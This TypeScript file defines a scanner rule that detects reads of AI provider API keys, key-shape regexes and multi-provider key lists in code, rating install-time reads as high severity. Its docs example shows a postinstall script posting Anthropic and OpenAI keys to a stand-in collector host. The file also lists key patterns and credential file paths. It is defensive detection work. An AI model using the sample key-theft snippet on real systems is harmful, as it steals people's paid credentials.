import type { Node } from '@babel/types';
import { defineRule, type FileContext, type BodyHints, parentOf } from '../src/engine/api.js';
import { AI_KEY_ENV, AI_KEY_SHAPES, aiKeyEnvPattern, aiKeyProvider, providerName } from '../src/engine/ai-indicators.js';
import { hintSource } from '../src/catalog/hints.js';

/** What makes a function body worth parsing for this rule (RuleVisitors.bodyHints): Key variable names and key shapes (lists and regexes of them may sit in any helper). */
const BODY_HINTS: BodyHints = { literals: new RegExp(`${hintSource(AI_KEY_ENV)}|sk-ant|sk-proj|sk-svcacct|sk-admin|sk-or|AIza|hf_|gsk_|xai-|pplx-|r8_`) };

/**
 * The read only tests whether the key is set (`if (!process.env.OPENAI_API_KEY)`, `typeof …`,
 * `… === undefined`): a setup hint, not a use of the key.
 */
function isPresenceCheck(node: Node): boolean {
  let cur: Node = node;
  let p = parentOf(cur);
  // Climb through `a && b`, `a || b` and `!a`: as a condition they test, as a value they read.
  let negated = false;
  while (p && (p.type === 'LogicalExpression' || (p.type === 'UnaryExpression' && p.operator === '!'))) {
    if (p.type === 'UnaryExpression') negated = true;
    cur = p;
    p = parentOf(p);
  }
  if (negated) return true;
  if (!p) return false;
  if (p.type === 'UnaryExpression' && p.operator === 'typeof') return true;
  if ((p.type === 'IfStatement' || p.type === 'ConditionalExpression' || p.type === 'WhileStatement') && p.test === cur) return true;
  if (p.type === 'BinaryExpression' && /^[!=]==?$/.test(p.operator)) {
    const other = p.left === cur ? p.right : p.left;
    return (other.type === 'Identifier' && other.name === 'undefined') || other.type === 'NullLiteral' || (other.type === 'StringLiteral' && other.value === '');
  }
  if (p.type === 'CallExpression' && p.callee.type === 'Identifier' && p.callee.name === 'Boolean') return true;
  return false;
}

/** The regex (or the name it is bound to) is the pattern of a `.replace(re, mask)`. */
function isRedaction(node: Node, ctx: FileContext): boolean {
  const isReplace = (call: Node | undefined, arg: Node) =>
    !!call && call.type === 'CallExpression' && call.arguments[0] === arg && call.callee.type === 'MemberExpression' && call.callee.property.type === 'Identifier' && /^replace(?:All)?$/.test(call.callee.property.name);
  const parent = parentOf(node);
  if (isReplace(parent, node)) return true;
  if (parent?.type === 'VariableDeclarator' && parent.id.type === 'Identifier') {
    const name = parent.id.name;
    return /redact|mask|sanit|scrub|hide|obfusc/i.test(name) || new RegExp(`\\.replace(?:All)?\\(\\s*${name.replace(/[$]/g, '\\$')}\\b`).test(ctx.text);
  }
  return false;
}

/** `process.env.NAME` / `process.env['NAME']`: the name, cheapest test first. */
function envNameOf(node: Node, ctx: FileContext): string | undefined {
  if (node.type !== 'MemberExpression' && node.type !== 'OptionalMemberExpression') return undefined;
  if (!node.computed) {
    if (node.property.type !== 'Identifier' || !aiKeyProvider(node.property.name)) return undefined;
    return ctx.evaluator.canonical(node.object) === 'process.env' ? node.property.name : undefined;
  }
  if (ctx.evaluator.canonical(node.object) !== 'process.env') return undefined;
  return ctx.evaluator.foldString(node.property);
}

export default defineRule({
  meta: {
    id: 'ai-keys',
    title: 'AI provider keys',
    description:
      "Reports reads of AI provider keys (ANTHROPIC_API_KEY, OPENAI_API_KEY, GEMINI_API_KEY, GOOGLE_API_KEY, GOOGLE_GENERATIVE_AI_API_KEY, AZURE_OPENAI_API_KEY, MISTRAL_API_KEY, COHERE_API_KEY, GROQ_API_KEY, HF_TOKEN, DEEPSEEK_API_KEY, XAI_API_KEY, OPENROUTER_API_KEY, AWS_BEARER_TOKEN_BEDROCK and others), regexes that search text for key shapes (sk-ant-, sk-proj-, AIza, hf_, gsk_, sk-or-v1-) or for several providers' key variables, and lists of many providers' key variables (a harvest list). These keys are bearer tokens that spend the victim's money. Context decides: a key read in a library is what its SDK does (low); read at install time it is high. Where the key goes is judged by `exfiltration-flow`, which knows each provider's API hosts: a key sent to its own provider (api.anthropic.com, api.openai.com, *.googleapis.com…) or an AI gateway is benign; to any other host, to a drop, bundled with other secrets or sent by install-time code it is theft. AI tools' credential files (~/.claude/.credentials.json, ~/.codex/auth.json, ~/.gemini/oauth_creds.json, ~/.config/github-copilot/) are reported by `credential-files`.",
    severity: 'low',
    category: 'credentials',
    references: ['https://owasp.org/www-project-top-10-for-large-language-model-applications/', 'https://attack.mitre.org/techniques/T1552/001/', 'https://docs.github.com/en/code-security/secret-scanning/introduction/supported-secret-scanning-patterns'],
    docs: {
      example: "// postinstall.js\nconst keys = { a: process.env.ANTHROPIC_API_KEY, o: process.env.OPENAI_API_KEY };\nfetch('https://collector.invalid/k', { method: 'POST', body: JSON.stringify(keys) });",
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule ai-keys`; its findings then neither show nor count toward the score.',
    },
  },
  create() {
    const reported = new Set<string>();
    const once = (key: string) => {
      if (reported.has(key)) return false;
      reported.add(key);
      return true;
    };
    const readKey = (node: Node, name: string, ctx: FileContext) => {
      const provider = aiKeyProvider(name);
      if (!provider) return;
      const install = ctx.reach === 'install';
      const presence = isPresenceCheck(node);
      const severity = install && !presence ? 'high' : 'low';
      if (!once(`${ctx.path}\0${name}\0${severity}`)) return;
      ctx.report({
        node,
        message: `${presence ? 'checks whether' : 'reads'} ${providerName(provider)} API key ${name}${presence ? ' is set' : ''}${install && !presence ? ' in install-time code' : ''}`,
        severity,
        signals: presence ? [] : ['source:env-secret', 'source:ai-key'],
      });
    };
    const scanPattern = (source: string, node: Node, ctx: FileContext) => {
      const shape = AI_KEY_SHAPES.find((s) => s.re.test(source));
      const names = !shape && aiKeyEnvPattern(source);
      if (!shape && !names) return;
      // Masking keys in logs (`s.replace(/sk-…/g, '***')`) is hygiene, not a hunt.
      if (isRedaction(node, ctx)) return;
      if (!once(`${ctx.path}\0scan`)) return;
      ctx.report({
        node,
        message: shape ? `searches text for ${shape.label} with /${source.slice(0, 80)}/` : `searches for several AI providers' key variables with /${source.slice(0, 80)}/`,
        // AI tools validate key formats too: it weighs at install time, or through a flow.
        severity: ctx.reach === 'install' ? 'medium' : 'low',
        signals: ['ai-key-scan'],
      });
    };
    return {
      bodyHints: BODY_HINTS,
      call(call, ctx) {
        if (call.callee !== 'RegExp') return;
        const arg = call.node.arguments[0];
        if (!arg || arg.type === 'SpreadElement' || arg.type === 'ArgumentPlaceholder') return;
        const src = ctx.evaluator.foldString(arg);
        if (src && src.length < 2000) scanPattern(src, call.node, ctx);
      },
      nodes: {
        MemberExpression(node, ctx) {
          const name = envNameOf(node, ctx);
          if (name) readKey(node, name, ctx);
        },
        OptionalMemberExpression(node, ctx) {
          const name = envNameOf(node, ctx);
          if (name) readKey(node, name, ctx);
        },
        VariableDeclarator(node, ctx) {
          // const { OPENAI_API_KEY, ANTHROPIC_API_KEY: k } = process.env
          if (node.type !== 'VariableDeclarator' || node.id.type !== 'ObjectPattern' || !node.init) return;
          if (ctx.evaluator.canonical(node.init) !== 'process.env') return;
          for (const p of node.id.properties) {
            if (p.type !== 'ObjectProperty') continue;
            const name = p.key.type === 'Identifier' && !p.computed ? p.key.name : p.key.type === 'StringLiteral' ? p.key.value : undefined;
            if (name) readKey(p, name, ctx);
          }
        },
        RegExpLiteral(node, ctx) {
          if (node.type === 'RegExpLiteral' && node.pattern.length < 2000) scanPattern(node.pattern, node, ctx);
        },
        ArrayExpression(node, ctx) {
          // ['OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'GEMINI_API_KEY', …]: a list of keys to collect.
          if (node.type !== 'ArrayExpression' || node.elements.length < 3 || node.elements.length > 200) return;
          const names: string[] = [];
          const providers = new Set<string>();
          for (const e of node.elements) {
            if (e?.type !== 'StringLiteral') continue;
            const p = aiKeyProvider(e.value);
            if (p) {
              names.push(e.value);
              providers.add(p);
            }
          }
          if (providers.size < 3 || !once(`${ctx.path}\0list`)) return;
          ctx.report({
            node,
            message: `lists the key variables of ${providers.size} AI providers (${names.slice(0, 4).join(', ')}${names.length > 4 ? ', …' : ''})`,
            // Multi-provider tools keep such lists to see what is configured: it weighs at install.
            severity: ctx.reach === 'install' ? 'high' : 'low',
            signals: ['ai-key-scan'],
          });
        },
      },
    };
  },
});
